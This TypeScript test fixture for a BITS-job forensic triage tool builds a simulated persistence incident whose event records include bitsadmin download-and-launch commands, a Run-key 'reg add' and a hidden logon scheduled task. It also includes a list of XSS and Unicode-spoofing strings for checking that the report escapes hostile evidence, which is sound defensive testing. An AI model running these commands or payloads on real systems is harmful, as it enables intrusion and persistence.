/** Hand-built triage results for the reporter tests: a BITS persistence case, and the same case full of payloads. */
import type {TriageEvent} from '../../src/model/event.js'
import type {Finding, Incident, Severity} from '../../src/model/finding.js'
import {maxSeverity} from '../../src/model/finding.js'
import type {InputSummary, TimelineEntry, TriageResult} from '../../src/model/result.js'
import {SCHEMA_VERSION} from '../../src/model/result.js'
import {compareTimes} from '../../src/model/time.js'

export interface CaseText {
  host: string
  user: string
  domain: string
  sid: string
  jobTitle: string
  jobId: string
  url: string
  payload: string
  runValue: string
  taskPath: string
  taskAuthor: string
  notifyParams: string
  childCommandLine: string
  incidentTitle: string
  nextStep: string
  evtxDir: string
  warning: string
  parseReason: string
  technique: string
}

export const REAL_TEXT: CaseText = {
  host: 'WS-FIN-07',
  user: 'j.meyer',
  domain: 'CORP',
  sid: 'S-1-5-21-3623811015-3361044348-30300820-1107',
  jobTitle: 'WindowsUpdateCheck',
  jobId: '{6a1f0c2e-7d3b-4e59-9a41-0c8d2b7f5e13}',
  url: 'http://203.0.113.50/upd/svcupd.exe',
  payload: 'C:\\Users\\Public\\svcupd.exe',
  runValue: 'OneDriveSync',
  taskPath: '\\Microsoft\\Windows\\UpdateOrchestrator\\SvcUpd',
  taskAuthor: 'CORP\\j.meyer',
  notifyParams: '',
  childCommandLine: 'cmd.exe /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /t REG_SZ /d "C:\\Users\\Public\\svcupd.exe" /f',
  incidentTitle: 'BITS job persistence on WS-FIN-07 (WindowsUpdateCheck)',
  nextStep: 'List all BITS jobs on WS-FIN-07: bitsadmin /list /allusers /verbose',
  evtxDir: 'C:\\cases\\2024-031\\WS-FIN-07\\winevt',
  warning: 'bitsadmin-list.txt: times read in Europe/Berlin (--source-tz)',
  parseReason: 'chunk header checksum mismatch (stored 0x6c1e2f10, computed 0x0b7e44a2); chunk skipped',
  technique: 'T1197',
}

const SECURITY = 'Security.evtx'
const BITS = 'Microsoft-Windows-Bits-Client%4Operational.evtx'
const SYSMON = 'Microsoft-Windows-Sysmon%4Operational.evtx'

function at(base: string, seconds: number): string {
  const ms = Date.parse(base) + seconds * 1000
  const iso = new Date(Math.floor(ms / 1000) * 1000).toISOString().slice(0, 19)
  const frac = String(Math.round((ms % 1000) * 10000)).padStart(7, '0')
  return `${iso}.${frac}Z`
}

export interface BuiltCase {
  result: TriageResult
  events: TriageEvent[]
}

/** The BITS persistence case: job created → transfer → notify launch → payload → Run value → task, plus noise. */
export function buildCase(x: CaseText = REAL_TEXT, options: {noise?: number} = {}): BuiltCase {
  const dir = x.evtxDir
  const user = {name: x.user, domain: x.domain, sid: x.sid}
  const acct = `${x.domain}\\${x.user}`
  const t0 = '2024-03-12T09:14:03Z'
  const ev: Record<string, TriageEvent> = {}
  const sec = (rec: number) => ({path: `${dir}\\${SECURITY}`, kind: 'evtx' as const, record: rec})
  const bits = (rec: number) => ({path: `${dir}\\${BITS}`, kind: 'evtx' as const, record: rec})
  const sysmon = (rec: number) => ({path: `${dir}\\${SYSMON}`, kind: 'evtx' as const, record: rec})
  const bitsadminCmd = (args: string): NonNullable<TriageEvent['process']> => ({
    image: 'C:\\Windows\\System32\\bitsadmin.exe', commandLine: `bitsadmin ${args}`, pid: 5120, user: acct,
    parentImage: 'C:\\Windows\\System32\\cmd.exe', parentPid: 4988,
  })

  ev.create = {time: at(t0, 0), source: sec(88211), host: x.host, user, category: 'process', action: 'process-start', eventId: 4688,
    provider: 'Microsoft-Windows-Security-Auditing', channel: 'Security', message: `bitsadmin /create ${x.jobTitle}`,
    process: bitsadminCmd(`/create ${x.jobTitle}`)}
  ev.created = {time: at(t0, 0.4123456), source: bits(1877), host: x.host, user, category: 'bits', action: 'bits-job-created', eventId: 3,
    provider: 'Microsoft-Windows-Bits-Client', channel: 'Microsoft-Windows-Bits-Client/Operational',
    message: `BITS job "${x.jobTitle}" created by bitsadmin.exe`,
    bits: {id: x.jobId, title: x.jobTitle, owner: acct, creatingProcess: 'C:\\Windows\\System32\\bitsadmin.exe', creatingPid: 5120},
    data: {jobTitle: x.jobTitle, jobId: x.jobId, jobOwner: acct, processPath: 'C:\\Windows\\System32\\bitsadmin.exe', ProcessId: '5120'}}
  ev.addfile = {time: at(t0, 1), source: sec(88214), host: x.host, user, category: 'process', action: 'process-start', eventId: 4688,
    message: `bitsadmin /addfile ${x.jobTitle} ${x.url} ${x.payload}`, process: bitsadminCmd(`/addfile ${x.jobTitle} ${x.url} ${x.payload}`)}
  const notifyCmd = `${x.payload}${x.notifyParams ? ` ${x.notifyParams}` : ''}`
  ev.setnotify = {time: at(t0, 2), source: sec(88217), host: x.host, user, category: 'process', action: 'process-start', eventId: 4688,
    message: `bitsadmin /SetNotifyCmdLine ${x.jobTitle} ${x.payload} NULL`,
    process: bitsadminCmd(`/SetNotifyCmdLine ${x.jobTitle} ${x.payload} ${x.notifyParams || 'NULL'}`)}
  ev.listing = {time: at(t0, 0.4), source: {path: 'C:\\cases\\2024-031\\WS-FIN-07\\bitsadmin-list.txt', kind: 'bitsadmin', line: 12, key: x.jobId},
    timeZoneBasis: 'source-tz', host: x.host, user, category: 'bits', action: 'bits-job-listed', message: `Job ${x.jobTitle} listed (ERROR, notify ${x.payload})`,
    bits: {id: x.jobId, title: x.jobTitle, type: 'DOWNLOAD', state: 'ERROR', owner: acct, priority: 'FOREGROUND', notifyCommandLine: notifyCmd,
      notifyProgram: x.payload, notifyFlags: '3', retryDelaySeconds: 60, noProgressTimeoutSeconds: 1209600, errorCount: 4, errorCode: '0x80070002',
      created: at(t0, 0.4), modified: at(t0, 3600 * 22), files: [{url: x.url, local: x.payload, bytesTransferred: 73216, bytesTotal: 73216, state: 'TRANSFERRED'}]}}
  ev.resume = {time: at(t0, 3), source: sec(88220), host: x.host, user, category: 'process', action: 'process-start', eventId: 4688,
    message: `bitsadmin /resume ${x.jobTitle}`, process: bitsadminCmd(`/resume ${x.jobTitle}`)}
  ev.started = {time: at(t0, 4.0071234), source: bits(1878), host: x.host, user, category: 'bits', action: 'bits-transfer-started', eventId: 59,
    message: `Transfer of ${x.url} started`, bits: {id: x.jobId, title: x.jobTitle, files: [{url: x.url}]}, network: {url: x.url, destinationIp: '203.0.113.50', destinationPort: 80},
    data: {name: x.jobTitle, Id: x.jobId, url: x.url, fileLength: '73216'}}
  ev.stopped = {time: at(t0, 6.2), source: bits(1879), host: x.host, user, category: 'bits', action: 'bits-transfer-stopped', eventId: 60,
    message: `Transfer of ${x.url} stopped (0x0)`, bits: {id: x.jobId, title: x.jobTitle, hresult: '0x0', bytesTransferred: 73216, bytesTotal: 73216,
      files: [{url: x.url, local: x.payload, bytesTransferred: 73216, bytesTotal: 73216, state: 'TRANSFERRED'}]}, network: {url: x.url}}
  ev.completed = {time: at(t0, 6.8), source: bits(1880), host: x.host, user, category: 'bits', action: 'bits-job-completed', eventId: 4,
    message: `BITS job "${x.jobTitle}" completed (1 file, 73216 bytes)`, bits: {id: x.jobId, title: x.jobTitle, state: 'TRANSFERRED', fileCount: 1, bytesTransferred: 73216}}
  ev.launch = {time: at(t0, 7.1), source: sysmon(40117), host: x.host, user, category: 'process', action: 'process-start', eventId: 1,
    provider: 'Microsoft-Windows-Sysmon', message: `${x.payload} started by the BITS service`,
    process: {image: x.payload, commandLine: notifyCmd, pid: 6012, user: acct, integrity: 'Medium', hashes: 'SHA256=9F2C4D1E0B7A66C3E8D54F1A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E',
      parentImage: 'C:\\Windows\\System32\\svchost.exe', parentCommandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS', parentPid: 1184, parentUser: 'NT AUTHORITY\\SYSTEM'}}
  ev.net = {time: at(t0, 7.5), source: sysmon(40118), host: x.host, user, category: 'network', action: 'network-connect', eventId: 3,
    message: `${x.payload} connected to 203.0.113.50:443`, process: {image: x.payload, pid: 6012}, network: {destinationIp: '203.0.113.50', destinationPort: 443, protocol: 'tcp'}}
  ev.child = {time: at(t0, 8), source: sysmon(40119), host: x.host, user, category: 'process', action: 'process-start', eventId: 1,
    message: 'svcupd.exe started cmd.exe', process: {image: 'C:\\Windows\\System32\\cmd.exe', commandLine: x.childCommandLine, pid: 6100, user: acct,
      parentImage: x.payload, parentCommandLine: notifyCmd, parentPid: 6012}}
  ev.reg = {time: at(t0, 8.5), source: sysmon(40121), host: x.host, user, category: 'process', action: 'process-start', eventId: 1,
    message: 'cmd.exe started reg.exe', process: {image: 'C:\\Windows\\System32\\reg.exe', commandLine: `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${x.runValue} /d "${x.payload}" /f`,
      pid: 6120, user: acct, parentImage: 'C:\\Windows\\System32\\cmd.exe', parentPid: 6100}}
  const runKey = `HKU\\${x.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`
  ev.run = {time: at(t0, 8.6), source: sysmon(40122), host: x.host, user, category: 'registry', action: 'registry-value-set', eventId: 13,
    message: `Run value ${x.runValue} set to ${x.payload}`, registry: {key: runKey, value: x.runValue, type: 'REG_SZ', data: x.payload, operation: 'set'},
    process: {image: 'C:\\Windows\\System32\\reg.exe', pid: 6120}}
  ev.schtasks = {time: at(t0, 9), source: sysmon(40124), host: x.host, user, category: 'process', action: 'process-start', eventId: 1,
    message: 'svcupd.exe started schtasks.exe', process: {image: 'C:\\Windows\\System32\\schtasks.exe', pid: 6140, user: acct, parentImage: x.payload, parentPid: 6012,
      commandLine: `schtasks /create /tn "${x.taskPath}" /tr "${x.payload}" /sc onlogon /f`}}
  ev.task = {time: at(t0, 9.4), source: sec(88241), host: x.host, user, category: 'task', action: 'task-registered', eventId: 4698,
    message: `Scheduled task ${x.taskPath} registered`,
    task: {path: x.taskPath, author: x.taskAuthor, hidden: true, enabled: true, triggers: [{type: 'Logon', enabled: true, userId: acct}],
      principal: {userId: acct, logonType: 'InteractiveToken', runLevel: 'LeastPrivilege'}, actions: [{type: 'exec', command: x.payload}]}}

  // Noise: Edge updater and Windows Update BITS jobs, logons, ordinary process starts.
  const noise: TriageEvent[] = []
  const noiseCount = options.noise ?? 240
  const apps = ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\svchost.exe',
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'C:\\Windows\\System32\\conhost.exe']
  for (let i = 0; i < noiseCount; i++) {
    const time = at('2024-03-12T06:00:00Z', i * 97 + (i % 7) * 3.25)
    const k = i % 6
    if (k === 0) {
      noise.push({time, source: bits(1000 + i), host: x.host, user: {name: 'SYSTEM', domain: 'NT AUTHORITY', sid: 'S-1-5-18'}, category: 'bits', action: 'bits-job-created', eventId: 3,
        message: 'BITS job "Microsoft Edge Update" created', bits: {title: 'Microsoft Edge Update', id: `{0e3c7a51-0000-4000-8000-${String(i).padStart(12, '0')}}`, owner: 'NT AUTHORITY\\SYSTEM',
          creatingProcess: 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe'}})
    } else if (k === 1) {
      noise.push({time, source: bits(1000 + i), host: x.host, category: 'bits', action: 'bits-transfer-started', eventId: 59,
        message: 'Transfer of https://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/update.crx3 started',
        bits: {title: 'Microsoft Edge Update', files: [{url: 'https://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/update.crx3'}]}})
    } else if (k === 2) {
      noise.push({time, source: sec(80000 + i), host: x.host, user: {name: i % 4 === 2 ? x.user : 'svc-backup', domain: x.domain}, category: 'authentication', action: 'logon', eventId: 4624,
        message: `Logon type ${i % 4 === 2 ? 2 : 3}`, data: {LogonType: i % 4 === 2 ? '2' : '3', IpAddress: `10.20.1.${i % 250}`}})
    } else {
      const image = apps[i % apps.length] ?? 'C:\\Windows\\explorer.exe'
      noise.push({time, source: sysmon(30000 + i), host: i % 5 === 0 ? 'WS-FIN-08' : x.host, user: {name: x.user, domain: x.domain}, category: 'process', action: 'process-start', eventId: 1,
        message: `${image.split('\\').pop()} started`, process: {image, commandLine: `"${image}"`, pid: 7000 + i, parentImage: 'C:\\Windows\\explorer.exe', parentPid: 3100}})
    }
  }

  const mk = (id: string, rule: string, title: string, severity: Severity, techniques: string[], events: TriageEvent[], summary: string, fields: Record<string, string>): Finding => {
    const first = events[0]
    const f: Finding = {id, rule, title, severity, techniques, host: x.host, user: acct, summary, fields, events,
      evidence: events.map(e => ({...e.source})),
      indicators: {jobIds: [x.jobId.toLowerCase()], paths: [x.payload.toLowerCase()], users: [acct.toLowerCase()], hosts: [x.host.toLowerCase()]}}
    if (first?.time) f.time = first.time
    return f
  }
  const findings: Finding[] = [
    mk('F-0001', 'bits-job-created-by-bitsadmin', 'BITS job created with bitsadmin', 'medium', ['T1197'], [ev.created!],
      `Job "${x.jobTitle}" ${x.jobId} created by bitsadmin.exe for ${acct}`, {jobTitle: x.jobTitle, jobId: x.jobId, creatingProcess: 'C:\\Windows\\System32\\bitsadmin.exe'}),
    mk('F-0002', 'bitsadmin-set-notify-cmdline', 'bitsadmin sets a notify command line', 'high', [x.technique], [ev.setnotify!, ev.listing!],
      `Notify command line of "${x.jobTitle}" set to ${x.payload}`, {commandLine: ev.setnotify!.process?.commandLine ?? ''}),
    mk('F-0003', 'bits-transfer-from-raw-ip', 'BITS transfer from a raw IP address', 'medium', ['T1197', 'T1105'], [ev.started!, ev.stopped!],
      `${x.url} → ${x.payload} (73216 bytes)`, {url: x.url, local: x.payload}),
    mk('F-0004', 'bits-notify-launch', 'Program started by the BITS service as the job owner', 'critical', ['T1197'], [ev.launch!],
      `svchost.exe (BITS) started ${x.payload} as ${acct}`, {image: x.payload, commandLine: notifyCmd, parent: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS'}),
    mk('F-0005', 'payload-spawns-shell', 'Downloaded program in a user-writable folder starts a shell', 'high', ['T1059.003'], [ev.child!],
      `${x.payload} started cmd.exe`, {commandLine: x.childCommandLine}),
    mk('F-0006', 'run-key-persistence', 'Run value points to a user-writable folder', 'high', ['T1547.001'], [ev.run!],
      `${runKey}\\${x.runValue} = ${x.payload}`, {key: runKey, value: x.runValue, data: x.payload}),
    mk('F-0007', 'hidden-logon-task', 'Hidden scheduled task with a logon trigger', 'high', ['T1053.005'], [ev.task!],
      `Task ${x.taskPath} runs ${x.payload} at logon`, {task: x.taskPath, action: x.payload}),
  ]
  const benignEvent = noise.find(e => e.category === 'bits' && e.action === 'bits-job-created')
  if (benignEvent) {
    const benign = mk('F-0008', 'bits-job-known-updater', 'BITS job by a known updater', 'info', ['T1197'], [benignEvent],
      'Microsoft Edge Update job (benign updater)', {owner: 'NT AUTHORITY\\SYSTEM'})
    benign.user = 'NT AUTHORITY\\SYSTEM'
    findings.push(benign)
  }

  const incident: Incident = {
    id: 'INC-0001', title: x.incidentTitle, severity: 'critical', techniques: [x.technique, 'T1105', 'T1547.001', 'T1053.005'],
    findings: ['F-0007', 'F-0006', 'F-0005', 'F-0004', 'F-0003', 'F-0002', 'F-0001'],
    links: [
      {from: 'F-0001', to: 'F-0003', reason: 'job-id', value: x.jobId.toLowerCase()},
      {from: 'F-0003', to: 'F-0004', reason: 'path', value: x.payload.toLowerCase()},
      {from: 'F-0004', to: 'F-0006', reason: 'path', value: x.payload.toLowerCase()},
      {from: 'F-0004', to: 'F-0007', reason: 'path', value: x.payload.toLowerCase()},
    ],
    start: ev.created!.time!, end: ev.task!.time!, host: x.host, users: [acct],
    nextSteps: [
      x.nextStep,
      `Collect ${x.payload} and its SHA-256; check it against threat intelligence`,
      `Remove the job: bitsadmin /cancel ${x.jobId}`,
      `Delete the Run value ${x.runValue} and the task ${x.taskPath}`,
      'Block the hash; restrict BITS via GPO/AppLocker',
      'Inform IR, IT operations and the CISO',
    ],
    playbook: [
      {step: 'cancel-job', values: {id: x.jobId, title: 'job'}},
      {step: 'collect-files', values: {files: x.payload, hosts: x.host}},
      {step: 'inform', values: {hosts: x.host}},
    ],
  }

  const findingIdsOf = new Map<TriageEvent, string[]>()
  for (const f of findings) for (const e of f.events ?? []) findingIdsOf.set(e, [...(findingIdsOf.get(e) ?? []), f.id])
  const sevOf = new Map(findings.map(f => [f.id, f.severity]))
  const events = [...Object.values(ev), ...noise].sort((a, b) => compareTimes(a.time, b.time))
  const timeline: TimelineEntry[] = []
  for (const e of events) {
    const ids = findingIdsOf.get(e)
    const entry: TimelineEntry = {kind: 'event', category: e.category, action: e.action, summary: e.message ?? e.action,
      source: {...e.source}, event: e}
    if (e.time) entry.time = e.time
    if (e.host) entry.host = e.host
    if (e.user?.name) entry.user = e.user.domain ? `${e.user.domain}\\${e.user.name}` : e.user.name
    if (e.eventId !== undefined) entry.eventId = e.eventId
    if (ids) {
      entry.findings = ids
      entry.severity = maxSeverity(ids.map(id => sevOf.get(id) ?? 'info'))
    }
    timeline.push(entry)
  }
  for (const f of findings) {
    const entry: TimelineEntry = {kind: 'finding', category: 'finding', action: f.rule, summary: `${f.title}: ${f.summary}`,
      source: {...(f.evidence[0] ?? {path: '', kind: 'evtx'})}, severity: f.severity, findings: [f.id]}
    if (f.time) entry.time = f.time
    if (f.host) entry.host = f.host
    if (f.user) entry.user = f.user
    timeline.push(entry)
  }
  timeline.sort((a, b) => compareTimes(a.time, b.time))

  const inputs: InputSummary[] = [
    {path: `${dir}\\${SECURITY}`, kind: 'evtx', size: 20_975_616, records: 18234, errors: []},
    {path: `${dir}\\${BITS}`, kind: 'evtx', size: 1_118_208, records: 1203, errors: [
      {path: `${dir}\\${BITS}`, severity: 'error', reason: x.parseReason, offset: 200704, chunk: 3},
    ]},
    {path: `${dir}\\${SYSMON}`, kind: 'evtx', size: 67_112_960, records: 40211, errors: []},
    {path: 'C:\\cases\\2024-031\\WS-FIN-07\\bitsadmin-list.txt', kind: 'bitsadmin', size: 6_412, records: 3, errors: [
      {path: 'C:\\cases\\2024-031\\WS-FIN-07\\bitsadmin-list.txt', severity: 'warning', reason: 'unrecognised label "PEERCACHING FLAGS"', line: 57},
    ]},
    {path: 'C:\\cases\\2024-031\\WS-FIN-07\\run-keys.reg', kind: 'reg', size: 3_204, records: 14, errors: []},
    {path: 'C:\\cases\\2024-031\\WS-FIN-07\\notes.docx', kind: 'unknown', size: 48_133, records: 0, errors: [], skipped: 'not a recognised artefact'},
  ]

  const result: TriageResult = {
    schemaVersion: SCHEMA_VERSION,
    tool: {name: 'bitstrail', version: '0.1.0'},
    generatedAt: '2024-03-14T10:00:00.000Z',
    sourceTimeZone: {name: 'Europe/Berlin', basis: 'source-tz'},
    warnings: [x.warning],
    inputs,
    findings,
    incidents: [incident],
    timeline,
  }
  return {result, events}
}

/** Strings an attacker could plant in evidence; every one must show as text and none may run. */
export const PAYLOADS = {
  script: '<script>alert(1)</script>',
  img: '"><img src=x onerror=alert(1)>',
  js: 'javascript:alert(document.domain)',
  closeScript: '</script><script>alert(2)</script>',
  comment: '<!--<script>alert(3)</script>-->',
  rtl: 'invoice\u202Egpj.exe',
  zeroWidth: 'svc\u200Bupd\u200D.exe\uFEFF',
  lineSep: 'a\u2028b\u2029c',
  attr: "' onmouseover='alert(4)' x='",
  template: '{{raw:data}} ${alert(5)}',
}

export const LONG_COMMAND_LINE = `powershell.exe -NoProfile -EncodedCommand ${'QQBCAEMA'.repeat(12800)}`

export function payloadText(): CaseText {
  return {
    host: `WS-${PAYLOADS.script}`,
    user: PAYLOADS.img,
    domain: 'CORP',
    sid: 'S-1-5-21-1-2-3-1107',
    jobTitle: PAYLOADS.closeScript,
    jobId: `{${PAYLOADS.comment}}`,
    url: PAYLOADS.js,
    payload: `C:\\Users\\Public\\${PAYLOADS.rtl}`,
    runValue: PAYLOADS.zeroWidth,
    taskPath: `\\${PAYLOADS.attr}`,
    taskAuthor: PAYLOADS.lineSep,
    notifyParams: LONG_COMMAND_LINE,
    childCommandLine: `cmd.exe /c ${PAYLOADS.template}`,
    incidentTitle: `Incident ${PAYLOADS.script} ${PAYLOADS.img}`,
    nextStep: `Visit ${PAYLOADS.js} and ${PAYLOADS.closeScript}`,
    evtxDir: `C:\\cases\\${PAYLOADS.attr}`,
    warning: `warning ${PAYLOADS.comment}`,
    parseReason: `bad chunk ${PAYLOADS.img}`,
    technique: `T1197${PAYLOADS.img}`,
  }
}

/** How the page shows a string: hidden and bidi control characters become visible `U+XXXX` marks. */
export function shownAs(s: string): string {
  return s.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u00AD\u061C\u180E\u200B-\u200F\u202A-\u202E\u2028\u2029\u2060-\u2069\uFEFF\uFFF9-\uFFFB]/g,
    c => `U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`)
}
